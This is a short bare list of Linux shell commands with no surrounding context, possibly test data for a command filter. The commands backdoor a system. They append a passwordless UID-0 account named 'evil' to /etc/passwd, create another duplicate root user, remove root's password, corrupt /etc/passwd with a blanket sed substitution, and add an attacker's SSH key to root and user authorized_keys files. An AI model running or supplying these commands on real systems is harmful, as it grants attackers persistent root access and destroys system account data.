echo 'evil::0:0::/root:/bin/bash' >>/etc/passwd
useradd -o -u 0 evil
passwd -d root
sed -i s/x/y/ /etc/passwd
mkdir -p /root/.ssh ~/.ssh
for f in /root/.ssh/authorized_keys /run/ssh-keys/root ~/.ssh/authorized_keys; do echo 'ssh-ed25519 AAAA evil' >>$f; done
